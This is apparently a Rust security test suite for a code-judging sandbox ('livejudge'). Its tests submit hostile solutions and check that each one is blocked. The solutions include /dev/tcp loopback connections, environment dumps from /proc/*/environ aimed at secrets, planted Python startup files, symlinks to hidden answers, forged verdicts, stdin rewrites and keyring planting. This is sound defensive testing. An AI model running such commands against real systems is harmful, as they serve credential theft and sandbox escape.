fn tcp_connect_to_a_loopback_service() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let h = Hostile::new();
    let solution = format!(
        "(exec 3<>/dev/tcp/127.0.0.1/{port} && echo hi >&3) 2>/dev/null && echo connected || echo blocked\n\
         python3 -c '\nimport socket\ns = socket.socket()\ntry:\n    s.connect((\"127.0.0.1\", {port})); print(\"connected\")\nexcept OSError:\n    print(\"blocked\")'\n"
    );
    let r = h
        .challenge(&[], &expecting("blocked\nblocked\n"))
        .solution("solve.sh", &solution)
        .run()
        .unwrap();
    assert!(
        listener.accept().is_err(),
        "the run reached a service on the judge's loopback"
    );
    assert_verdict(&r, &["AC"]);
}

#[test]
fn tcp_listen() {
    let port = {
        let probe = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        probe.local_addr().unwrap().port()
    };
    let h = Hostile::new();
    let solution = format!(
        "import socket, time\n\
         try:\n\
         \x20   s = socket.socket()\n\
         \x20   s.bind(('127.0.0.1', {port}))\n\
         \x20   s.listen()\n\
         \x20   print('listening', flush=True)\n\
         \x20   time.sleep(1.5)\n\
         except OSError:\n\
         \x20   print('denied')\n"
    );
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let reached = {
        let stop = stop.clone();
        std::thread::spawn(move || {
            while !stop.load(std::sync::atomic::Ordering::SeqCst) {
                let address = std::net::SocketAddr::from(([127, 0, 0, 1], port));
                if std::net::TcpStream::connect_timeout(&address, Duration::from_millis(100))
                    .is_ok()
                {
                    return true;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
            false
        })
    };
    let r = h
        .challenge(&[], &expecting("denied\n"))
        .solution("solve.py", &solution)
        .run()
        .unwrap();
    stop.store(true, std::sync::atomic::Ordering::SeqCst);
    assert!(
        !reached.join().unwrap(),
        "a port opened by the run was reachable from the machine"
    );
    assert_verdict(&r, &["AC"]);
}

#[test]
fn udp_send_to_a_loopback_socket() {
    let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = socket.local_addr().unwrap().port();
    let h = Hostile::new();
    let solution = format!(
        "echo hi > /dev/udp/127.0.0.1/{port} 2>/dev/null\n\
         python3 -c '\nimport socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor _ in range(20):\n    try:\n        s.sendto(b\"hi\", (\"127.0.0.1\", {port}))\n    except OSError:\n        pass'\n\
         echo 42\n"
    );
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", &solution)
        .run()
        .unwrap();
    socket
        .set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let mut buffer = [0u8; 64];
    assert!(
        socket.recv_from(&mut buffer).is_err(),
        "a datagram from the run arrived on the judge's loopback"
    );
    assert_verdict(&r, &["AC"]);
}

#[test]
fn abstract_unix_socket_of_the_machine() {
    use std::os::linux::net::SocketAddrExt;
    let h = Hostile::new();
    let name = format!("livejudge-hostile-{}", h.mark);
    let address = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let listener = std::os::unix::net::UnixListener::bind_addr(&address).unwrap();
    listener.set_nonblocking(true).unwrap();
    let solution = format!(
        "import socket\ns = socket.socket(socket.AF_UNIX)\n\
         try:\n    s.connect('\\0{name}'); print('connected')\n\
         except OSError:\n    print('blocked')\n"
    );
    let r = h
        .challenge(&[], &expecting("blocked\n"))
        .solution("solve.py", &solution)
        .run()
        .unwrap();
    assert!(
        listener.accept().is_err(),
        "the run reached an abstract socket"
    );
    assert_verdict(&r, &["AC"]);
}

// ---------------------------------------------------------------------------------------------
// Environment and identity

#[test]
fn printing_the_environment_leaks_nothing() {
    let h = Hostile::new();
    let secret = format!("judge-secret-{}", h.mark);
    let solution = "env\ncat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'\n\
                    cat /proc/1/environ /proc/$PPID/environ 2>/dev/null\necho 42\n";
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", solution)
        .env("LIVEJUDGE_HOSTILE_SECRET", &secret)
        .env("AWS_SECRET_ACCESS_KEY", &secret)
        .run()
        .unwrap();
    assert_verdict(&r, &["WA"]);
    assert!(
        !r.json.to_string().contains(&secret),
        "a variable of the judge leaked: {}",
        r.json
    );
}

#[test]
fn the_environment_is_exactly_the_promised_one() {
    let h = Hostile::new();
    let r = h
        .challenge(
            &[],
            &expecting("['HOME', 'LANG', 'PATH', 'PWD', 'TMPDIR', 'TZ']\n"),
        )
        .solution("solve.py", "import os\nprint(sorted(os.environ))\n")
        .env("SSH_AUTH_SOCK", "/tmp/agent.sock")
        .env("GITHUB_TOKEN", "ghp_not_a_real_token")
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn never_runs_as_root() {
    let h = Hostile::new();
    let tests = "[[test]]\nname = \"t\"\n\
                 stdout = { text = 'uid=[1-9][0-9]* euid=[1-9][0-9]* gid=[1-9][0-9]* groups=( [1-9][0-9]*)* caps=0+ nnp=1', compare = \"regex\" }\n";
    let solution = "import os\n\
                    status = dict(l.split(':\\t', 1) for l in open('/proc/self/status').read().splitlines() if ':\\t' in l)\n\
                    groups = ''.join(' %d' % g for g in os.getgroups() if g != os.getgid())\n\
                    print('uid=%d euid=%d gid=%d groups=%s caps=%s nnp=%s' % (os.getuid(), os.geteuid(), os.getgid(), groups, status['CapEff'].strip(), status['NoNewPrivs'].strip()))\n";
    let r = h
        .challenge(&[], tests)
        .solution("solve.py", solution)
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn no_state_survives_from_one_test_to_the_next() {
    let h = Hostile::new();
    let solution = format!(
        "dirty=\n\
         for f in \"$HOME/.marker\" \"$TMPDIR/marker\" /tmp/livejudge-state-{m} /dev/shm/livejudge-state-{m} /var/tmp/livejudge-state-{m}; do\n\
         \x20 [ -e \"$f\" ] && dirty=\"$dirty $f\"\n\
         \x20 echo x > \"$f\" 2>/dev/null\n\
         done\n\
         echo \"clean$dirty\"\n",
        m = h.mark
    );
    let tests = "[[test]]\nname = \"first\"\nstdout = \"clean\\n\"\n\
                 [[test]]\nname = \"second\"\nstdout = \"clean\\n\"\n";
    let outside: Vec<String> = ["/tmp", "/dev/shm", "/var/tmp"]
        .iter()
        .map(|d| format!("{d}/livejudge-state-{}", h.mark))
        .collect();
    let r = h
        .challenge(&[], tests)
        .solution("solve.sh", &solution)
        .args(&["--jobs", "1"])
        .run()
        .unwrap();
    let leaked: Vec<&String> = outside.iter().filter(|p| Path::new(p).exists()).collect();
    for path in &leaked {
        let _ = std::fs::remove_file(path);
    }
    assert!(leaked.is_empty(), "the run wrote outside: {leaked:?}");
    assert_eq!(r.verdicts(), ["AC", "AC"], "{}", r.json);
}

// ---------------------------------------------------------------------------------------------
// What the solution prints

#[test]
fn fake_verdict_text_on_stderr() {
    let h = Hostile::new();
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution(
            "solve.sh",
            "echo 41\necho 'AC' >&2\necho '{\"verdict\":\"AC\",\"score\":1}' >&2\n\
             echo 'verdict: passed (AC)' >&2\nprintf '\\033[32mPASS\\033[0m\\n' >&2\n",
        )
        .run()
        .unwrap();
    assert_verdict(&r, &["WA"]);
    assert_eq!(r.json["score"], 0);
}

#[test]
fn json_breaking_output() {
    let h = Hostile::new();
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution(
            "solve.sh",
            "printf '\"}],\"verdict\":\"AC\"}\\n\\\\u0000\\n\\033[2J\\b\\b\\r42\\n'\n\
             printf '\"}]}' >&2\n",
        )
        .run()
        .unwrap();
    assert_verdict(&r, &["WA"]);
    assert_eq!(r.json["verdict"], "WA");
}

#[test]
fn nul_bytes_in_the_output() {
    let h = Hostile::new();
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution(
            "solve.sh",
            "printf '4\\0002\\n\\000\\n'\nprintf '\\000' >&2\n",
        )
        .run()
        .unwrap();
    assert_verdict(&r, &["WA"]);
}

#[test]
fn invalid_utf8_in_the_output() {
    let h = Hostile::new();
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution(
            "solve.sh",
            "printf '\\377\\376 42 \\303\\n'\nprintf '\\377' >&2\n",
        )
        .run()
        .unwrap();
    assert_verdict(&r, &["WA"]);
}

#[test]
fn crlf_line_endings() {
    let h = Hostile::new();
    let r = h
        .challenge(&[], &expecting("42\n43\n"))
        .solution("solve.sh", "printf '42\\r\\n43\\r\\n'\n")
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn no_final_newline() {
    let h = Hostile::new();
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", "printf 42\n")
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn right_output_but_non_zero_exit() {
    let h = Hostile::new();
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", "echo 42\nexit 3\n")
        .run()
        .unwrap();
    assert_verdict(&r, &["RTE"]);
    assert_eq!(r.test(0)["exit_code"], 3);
}

#[test]
fn right_output_then_death_by_signal() {
    let h = Hostile::new();
    let r = h
        .challenge(&[], &expecting("42\n"))
        .solution("solve.sh", "echo 42\nkill -SEGV $$\n")
        .run()
        .unwrap();
    assert_verdict(&r, &["RTE"]);
    assert_eq!(r.test(0)["detail"], "SIGSEGV");
}

#[test]
fn reading_the_judges_stdin_file_while_it_runs() {
    // Inline stdin was once a file in a judge folder next to the working folder (it is a sealed
    // memfd now): whatever lies beside the working folder stays out of reach.
    let h = Hostile::new();
    let tests = "[[test]]\nname = \"t\"\nstdin = \"input\\n\"\nstdout = \"input\\n\"\n";
    let r = h
        .challenge(&[], tests)
        .solution(
            "solve.sh",
            "cat\nls -la .. >&2 2>/dev/null\necho tampered > ../judge/stdin 2>/dev/null\n\
             ls ../judge >/dev/null 2>&1 && echo listed\nexit 0\n",
        )
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn a_run_cannot_rewrite_its_own_input() {
    // Inline stdin is handed over in memory, sealed: every way to rewrite it (through the
    // descriptor, truncated, or reopened for writing) fails, and reading it again from the
    // start gives what the test gave.
    let solution = "read a b\n\
        python3 -c 'import os; os.ftruncate(0, 0)' 2>/dev/null && echo truncated\n\
        python3 -c 'import os; os.pwrite(0, b\"40 2\\n\", 0)' 2>/dev/null && echo written\n\
        python3 -c 'import os; f = os.open(\"/proc/self/fd/0\", os.O_RDWR); os.write(f, b\"40 2\\n\")' 2>/dev/null && echo reopened\n\
        printf '40 2\\n' 2>/dev/null > /dev/stdin && echo redirected\n\
        python3 -c 'import os, sys; sys.stdout.write(os.pread(0, 64, 0).decode())'\n";
    let r = Hostile::new()
        .challenge(
            &[],
            "[[test]]\nname = \"t\"\nstdin = \"2 3\\n\"\nstdout = \"2 3\\n\"\n",
        )
        .solution("solve.sh", solution)
        .run()
        .unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn rewriting_a_test_file_given_as_stdin_through_proc() {
    use std::os::unix::fs::PermissionsExt;
    // A test's stdin file is the challenge's own. A run that could write it (one of the
    // judge's own user, or here a file anyone may write) gets a sealed copy, so reopening
    // `/proc/self/fd/0` for writing changes nothing — even where Landlock, which also forbids
    // that reopening, is missing (skipped here). The challenge folder is checked unchanged.
    let h = Hostile::new()
        .challenge(
            &[],
            "[[test]]\nname = \"t\"\nstdin = { file = \"tests/in.txt\" }\nstdout = \"original\\n\"\n",
        )
        .file("tests/in.txt", "original\n")
        .env("LIVEJUDGE_SKIP_LAYERS", "landlock")
        .solution(
            "solve.sh",
            "python3 -c 'import os; f = os.open(\"/proc/self/fd/0\", os.O_RDWR); os.write(f, b\"tampered\\n\")' 2>/dev/null\ncat\n",
        );
    let input = h.dir().join("tests/in.txt");
    std::fs::set_permissions(&input, std::fs::Permissions::from_mode(0o666)).unwrap();
    let r = h.run().unwrap();
    assert_verdict(&r, &["AC"]);
}

#[test]
fn cpu_time_of_a_run_killed_at_its_limit_is_reported() {
    let h = Hostile::new();
    let r = h
        .challenge(&[("time", "\"1s\"")], &expecting("42\n"))
        .solution("solve.sh", "while :; do :; done\n")
        .run()
        .unwrap();
    assert_verdict(&r, &["TLE"]);
    let cpu = r.test(0)["cpu_ms"].as_f64().unwrap_or(0.0);
    // Generous: on a loaded machine the loop gets only part of a CPU before the wall limit.
    assert!(
        cpu > 100.0,
        "a second of busy loop reported {cpu} ms of CPU"
    );
}

// ---------------------------------------------------------------------------------------------
// What a run can see: a filesystem built for it (sandbox.md), and checkers out of its reach

/// True when the judge ran with the filesystem built for each run. Without it these cases do
/// not apply: they say so loudly, and fail when `LIVEJUDGE_REQUIRE_SANDBOX=1` (CI).
fn has_view(judged: &Judged) -> bool {
    let has = judged.json["sandbox"]["layers"]
        .as_array()
        .is_some_and(|layers| layers.iter().any(|l| l == "filesystem"));
    if !has {
        support::skip(format!(
            "it needs the `filesystem` layer, which is unavailable here: {}",
            judged.json["sandbox"]
        ));
    }
    has
}

/// A checker that passes only when `result.txt` holds the expected answer.
const RESULT_CHECKER: &str = "import os, sys\n\
    expected = open(os.path.join(os.environ['LIVEJUDGE_CHALLENGE'], 'tests', 'expected', 'answer.txt')).read()\n\
    try:\n    got = open('result.txt').read()\nexcept OSError as e:\n    print('no result.txt:', e); sys.exit(1)\n\
    sys.exit(0 if got == expected else 1)\n";

fn checked_challenge(h: Hostile) -> Hostile {
    h.challenge(&[], "[[test]]\nname = \"t\"\ncheck = \"checks/check.py\"\n")
        .file("checks/check.py", RESULT_CHECKER)
        .file("tests/expected/answer.txt", "the real answer\n")
}

#[test]
fn a_planted_usercustomize_does_not_run_in_the_checker() {
    // Files Python loads at start from the user's site folder, planted where HOME pointed for
    // the run: the checker has a HOME of its own, so none of them runs there.
    let solution = "site=$(python3 -c 'import site; print(site.getusersitepackages())')\n\
        mkdir -p \"$site\" .local/lib\n\
        for f in usercustomize.py sitecustomize.py; do echo 'import os; os._exit(0)' > \"$site/$f\"; done\n\
        echo 'import os; os._exit(0)' > \"$site/zz.pth\"\n\
        echo 'import os; os._exit(0)' > sitecustomize.py\n\
        echo '[core] pager = true' > .gitconfig\necho 'exit 0' > .bashrc\n\
        echo garbage > result.txt\necho planted\n";
    let r = checked_challenge(Hostile::new())
        .solution("solve.sh", solution)
        .run()
        .unwrap();
    if has_view(&r) {
        assert_verdict(&r, &["WA"]);
    }
}

#[test]
fn a_link_to_a_hidden_file_is_not_followed_by_the_checker() {
    let h = checked_challenge(Hostile::new());
    let hidden = h.dir().join("tests/expected/answer.txt");
    // Every way to name the answer: the machine's path, the checker's view of the challenge, a
    // relative climb, and a hard link attempt.
    let solution = format!(
        "ln -s {hidden} result.txt\nln -s /challenge/tests/expected/answer.txt r2\n\
         ln -s ../../../../../../{hidden} r3\nln {hidden} r4 2>/dev/null\n\
         mkdir d && ln -s /challenge d/up\necho linked\n",
        hidden = hidden.display()
    );
    let h = h.solution("solve.sh", &solution);
    expose(&h.dir(), 0o755);
    let r = h.run().unwrap();
    if has_view(&r) {
        assert_verdict(&r, &["WA"]);
    }
}

#[test]
fn a_hidden_file_cannot_even_be_seen_to_exist() {
    // Landlock forbids reading, not `stat`: in a filesystem built for the run, the challenge
    // folder is simply not there, so neither its names nor its sizes leak.
    let h = Hostile::new().challenge(
        &[],
        "[[test]]\nname = \"t\"\nstdout = \"absent absent absent\\n\"\n",
    );
    let dir = h.dir();
    let h = h.file("tests/hidden/secret.out", "yes\n");
    let solution = format!(
        "seen() {{ [ -e \"$1\" ] && echo present || echo absent; }}\n\
         echo $(seen {d}/tests/hidden/secret.out) $(seen {d}) $(seen {d}/challenge.toml)\n",
        d = dir.display()
    );
    let h = h.solution("solve.sh", &solution);
    expose(&h.dir(), 0o755);
    let r = h.run().unwrap();
    if has_view(&r) {
        assert_verdict(&r, &["AC"]);
    }
}

#[test]
fn a_unix_socket_outside_cannot_be_reached() {
    use std::os::unix::fs::PermissionsExt;
    let folder = tempfile::tempdir().unwrap();
    std::fs::set_permissions(folder.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let path = folder.path().join("agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
    let solution = format!(
        "import socket\ns = socket.socket(socket.AF_UNIX)\n\
         try:\n    s.connect({path:?})\n    s.sendall(b'sign this')\n    print('connected')\n\
         except OSError:\n    print('unreachable')\n",
        path = path.display().to_string()
    );
    let r = Hostile::new()
        .challenge(&[], &expecting("unreachable\n"))
        .solution("solve.py", &solution)
        .run()
        .unwrap();
    let accepted = listener.accept();
    if has_view(&r) {
        assert!(
            accepted.is_err(),
            "the run connected to a socket outside its view"
        );
        assert_verdict(&r, &["AC"]);
    }
}

/// A Python solution that reads a key named `livejudge-planted` from its user and session
/// keyrings (printing its payload), else plants one in both and prints `nothing`.
const KEYRING_SOLUTION: &str = r#"import ctypes, platform
calls = {'x86_64': (248, 250), 'aarch64': (217, 219)}[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
add_key, keyctl = calls
found = []
for ring in (-4, -3):
    key = libc.syscall(keyctl, 10, ring, b"user", b"livejudge-planted", 0)
    if key > 0:
        buf = ctypes.create_string_buffer(64)
        n = libc.syscall(keyctl, 11, key, buf, 64)
        found.append(buf.raw[:max(n, 0)].decode())
if found:
    print('found', *found)
else:
    for ring in (-4, -3):
        libc.syscall(add_key, b"user", b"livejudge-planted", b"stolen-answer", 13, ring)
    print('nothing')
"#;

#[test]
fn keyring_entries_do_not_pass_between_submissions() {
    // Two submissions of one `grade`, judged one after the other by the same zygote: the
    // first plants a key in its user and session keyrings, the second looks for it.
    let case = Case::new(&challenge_toml(&[], &expecting("nothing\n")))
        .solution("first.py", KEYRING_SOLUTION);
    let first = case.root().join("solution/first.py");
    let second = case.root().join("solution/second.py");
    std::fs::write(&second, KEYRING_SOLUTION).unwrap();
    let out = support::run_bounded(
        {
            let mut command = case.livejudge(&["grade", "demo"]);
            command
                .arg(&first)
                .arg(&second)
                .args(["--format", "json", "-j", "1"]);
            command
        },
        HARD_STOP,
    );
    assert!(
        !out.stdout.contains("stolen-answer"),
        "a key planted by one submission was read by another: {}",
        out.stdout
    );
    let document: serde_json::Value = serde_json::from_str(&out.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}\n{}", out.stdout, out.stderr));
    let results = document["results"].as_array().expect("results");
    assert_eq!(results.len(), 2, "{document}");
    for result in results {
        assert_eq!(result["verdict"], "AC", "{result}");
    }
}

#[test]
fn the_working_folder_is_at_one_fixed_path() {
    // The same solution sees the same paths in every run: results never show a random
    // temporary name (tracebacks included).
    let solution = "pwd\necho \"$HOME $TMPDIR\"\npython3 -c 'import os; print(os.path.abspath(\"x\"))'\n\
        ls -d /tmp/. >/dev/null && echo tmp-ok\n";
    let expected = "/box\n/box /box/.tmp\n/box/x\ntmp-ok\n";
    for _ in 0..2 {
        let r = Hostile::new()
            .challenge(&[], &expecting(expected))
            .solution("solve.sh", solution)
            .run()
            .unwrap();
        if !has_view(&r) {
            return;
        }
        assert_verdict(&r, &["AC"]);
    }
}

#[test]
fn what_earlier_runs_left_is_out_of_reach() {
    // Over many runs of one zygote, each run finds only its own files in its working folder
    // (each run plants one for the next ones to find), and the mounts of ended runs do not pile
    // up under /box (a design that leaves them for a while must unmount them as it goes).
    let tests: String = (0..80)
        .map(|i| format!("[[test]]\nname = \"t{i}\"\nstdout = \"clean\\n\"\n"))
        .collect();
    let solution = "foreign=$(ls -A | grep -v -x -e solve.sh -e .tmp)\n\
        echo \"planted by $$\" > planted-$$.txt\n\
        stacked=$(grep -c ' /box ' /proc/self/mountinfo)\n\
        if [ -z \"$foreign\" ] && [ \"$stacked\" -le 33 ]; then echo clean; \
        else echo \"foreign=[$foreign] stacked=$stacked\"; fi\n";
    let r = Hostile::new()
        .challenge(&[], &tests)
        .solution("solve.sh", solution)
        .args(&["--all", "-j1"])
        .run()
        .unwrap();
    if has_view(&r) {
        assert_verdict(&r, &["AC"]);
        assert_eq!(r.json["tests"].as_array().map(Vec::len), Some(80));
        assert_eq!(r.json["score"], 80, "{}", r.json);
    }
}

#[test]
fn the_sandbox_probe_leaves_nothing_behind() {
    // The probe builds a view (with its parking beside it) in a folder of its own under the base
    // folder; every judge command runs it, so anything it left would pile up there (on
    // /dev/shm by default).
    let base = tempfile::tempdir().unwrap();
    let out = Command::new(support::bin())
        .arg("__probe")
        .env_clear()
        .env("LIVEJUDGE_TMPDIR", base.path())
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let left: Vec<_> = std::fs::read_dir(base.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert!(left.is_empty(), "the probe left {left:?}");
}

#[test]
fn the_sandbox_probe_tries_the_view_where_the_runs_folders_go() {
    // A base folder where no view can be built (it does not exist) is the one runs would use:
    // the probe tries it there, not on /dev/shm, and `doctor` says why the layer is missing.
    let missing = tempfile::tempdir().unwrap().path().join("gone");
    let out = Command::new(support::bin())
        .arg("doctor")
        .env("LIVEJUDGE_TMPDIR", &missing)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let line = text
        .lines()
        .find(|line| line.trim_start().starts_with("filesystem"))
        .unwrap_or_else(|| panic!("no filesystem layer in doctor's report:\n{text}"));
    assert!(
        line.contains("unavailable") && line.contains(&missing.display().to_string()),
        "{line}"
    );
}

/// The parent pid of `pid`, from `/proc/PID/stat` (after the command name's last `)`).
fn parent_of(pid: u32) -> Option<u32> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    stat.rsplit_once(')')?
        .1
        .split_whitespace()
        .nth(1)?
        .parse()
        .ok()
}

#[test]
fn ended_runs_mounts_are_unmounted_as_the_runs_go() {
    // A zygote moves each ended run's mounts aside and unmounts them in batches: while the 41st
    // run of one zygote goes on, the zygote's own mount table holds only a bounded number of
    // them, not forty.
    let mark = support::unique();
    let mut tests: String = (0..40)
        .map(|i| format!("[[test]]\nname = \"t{i}\"\nstdout = \"42\\n\"\n"))
        .collect();
    tests.push_str("[[test]]\nname = \"last\"\nstdin = \"wait\\n\"\nstdout = \"42\\n\"\n");
    let case = Case::new(&challenge_toml(&[("time", "\"20s\"")], &tests))
        .solution(
            "solve.sh",
            &format!("read line\n[ \"$line\" = wait ] && sleep {mark}\necho 42\n"),
        )
        .args(&["--all", "-j1"]);
    let mut judge = case.json_command().spawn().unwrap();
    let waited = Instant::now();
    while support::processes_with(&mark).is_empty() {
        assert!(
            waited.elapsed() < BOUND,
            "the last run never started (judge exit: {:?})",
            judge.try_wait()
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    // The zygote is the judge's child; with namespaces, the one serving the runs is its child.
    let judge_pid = judge.id();
    let zygotes: Vec<u32> = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| e.file_name().to_string_lossy().parse::<u32>().ok())
        .filter(|&pid| {
            parent_of(pid) == Some(judge_pid)
                || parent_of(pid).and_then(parent_of) == Some(judge_pid)
        })
        .collect();
    let tables: Vec<String> = zygotes
        .iter()
        .filter_map(|pid| std::fs::read_to_string(format!("/proc/{pid}/mountinfo")).ok())
        .collect();
    judge.kill().unwrap();
    judge.wait().unwrap();
    let parked = tables
        .iter()
        .map(|table| table.lines().filter(|l| l.contains(".parked/")).count())
        .max();
    match parked {
        // 16 at most wait to be unmounted (`view::PARKED_AT_MOST`).
        Some(parked) => assert!(
            parked <= 16,
            "{parked} ended runs' mounts are still mounted"
        ),
        None => support::skip("the zygote's mount table cannot be read here".to_string()),
    }
}

#[test]
fn filling_the_folder_past_limits_disk() {
    // Many files under the file size limit, together past the disk limit: the folder is full
    // (ENOSPC) and the verdict says so.
    let solution = "for i in 1 2 3 4 5 6 7 8; do head -c 900K /dev/zero > f$i 2>/dev/null; done\n\
        du -sk . >&2\necho 42\n";
    let r = Hostile::new()
        .challenge(&[("disk", "\"2MiB\"")], &expecting("42\n"))
        .solution("solve.sh", solution)
        .run()
        .unwrap();
    if has_view(&r) {
        assert_verdict(&r, &["OLE"]);
        assert_eq!(r.test(0)["detail"], "disk", "{}", r.json);
    }
}

#[test]
fn another_user_cannot_read_what_the_judge_keeps() {
    // While a run goes on (it sleeps with its secret in its folder and in its source), another
    // local user looks through the judge's temporary folder: nothing is readable.
    if !support::needs_root("to act as another user") {
        return;
    }
    let secret = format!("SECRET-{}", support::unique().replace('.', "-"));
    let h = Hostile::new()
        .challenge(&[("time", "\"5s\"")], &expecting("42\n"))
        .solution(
            "solve.sh",
            &format!("# {secret}\necho {secret} > mine.txt\nsleep 2\necho 42\n"),
        );
    let tmp = h.case().tmp_path().to_path_buf();
    let looker = std::thread::spawn(move || {
        std::thread::sleep(Duration::from_millis(800));
        let out = Command::new("setpriv")
            .args([
                "--reuid=61235",
                "--regid=61235",
                "--clear-groups",
                "sh",
                "-c",
            ])
            .arg(format!(
                "find {} -type f -exec cat {{}} + 2>/dev/null; true",
                tmp.display()
            ))
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    });
    let r = h.run().unwrap();
    let seen = looker.join().unwrap();
    assert!(
        !seen.contains(&secret),
        "another user read the run's files: {seen}"
    );
    assert_verdict(&r, &["AC"]);
}

#[test]
fn a_judge_killed_with_sigkill_leaves_no_process_and_the_next_one_sweeps_its_folder() {
    let mark = support::unique();
    let case = Case::new(&challenge_toml(&[("time", "\"20s\"")], &expecting("42\n"))).solution(
        "solve.sh",
        &format!("echo started\nsleep {mark}\necho 42\n"),
    );
    let mut judge = case.json_command().spawn().unwrap();
    let waited = Instant::now();
    while support::processes_with(&mark).is_empty() {
        assert!(
            waited.elapsed() < BOUND,
            "the run never started (judge exit: {:?})",
            judge.try_wait()
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    // Only the judge this test started, by its pid.
    judge.kill().unwrap();
    judge.wait().unwrap();
    let killed = Instant::now();
    while !support::processes_with(&mark).is_empty() {
        assert!(
            killed.elapsed() < Duration::from_secs(5),
            "processes of the run outlived the judge: {}",
            describe(&support::processes_with(&mark))
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(
        !case.leftover_run_folders().is_empty(),
        "a judge killed with SIGKILL cannot clean up: its folder should still be there"
    );
    // The next judge (any command that judges) removes what the killed one left.
    let quick = case.root().join("quick.sh");
    std::fs::write(&quick, "echo 42\n").unwrap();
    let mut next = case.livejudge(&["test"]);
    next.arg(case.dir()).arg(&quick).args(["--format", "json"]);
    let judged = Judged::parse(support::run_bounded(next, HARD_STOP));
    assert_eq!(judged.status, 0, "{}", judged.json);
    assert_eq!(
        case.leftover_run_folders(),
        Vec::<String>::new(),
        "the killed judge's folder was not swept"
    );
}

#[test]
fn sparse_files_do_not_blow_up_the_checkers_snapshot() {
    // Files that claim far more than the run wrote (sparse, under file_size each): the snapshot a
    // checker gets stops at the run's disk limit instead of reading terabytes of holes.
    let solution = "for i in $(seq 1 400); do truncate -s 1000K f$i; done\necho ok > result.txt\n";
    let h = Hostile::new()
        .challenge(
            &[("disk", "\"4MiB\"")],
            "[[test]]\nname = \"t\"\ncheck = \"checks/check.py\"\n",
        )
        .file(
            "checks/check.py",
            "import os, sys\ntotal = sum(os.path.getsize(f) for f in os.listdir('.') if os.path.isfile(f))\n\
             print(total)\nsys.exit(0 if total <= 4 << 20 else 1)\n",
        )
        .solution("solve.sh", solution);
    let r = h.run().unwrap();
    assert_verdict(&r, &["AC"]);
}
